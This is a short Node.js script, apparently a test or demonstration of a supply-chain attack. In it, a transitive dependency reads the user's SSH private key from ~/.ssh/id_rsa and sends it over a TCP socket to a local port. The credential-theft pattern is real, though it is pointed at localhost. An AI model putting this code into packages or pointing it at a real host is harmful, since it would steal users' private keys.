// Harmless reproduction: a transitive dependency steals a bait SSH key.
const fs = require('fs');
const os = require('os');
const net = require('net');
let key = '';
try { key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); } catch (e) {}
const s = net.connect(9999, '127.0.0.1', () => s.end('transitive ' + key));
s.on('error', () => {});
s.setTimeout(3000, () => s.destroy());
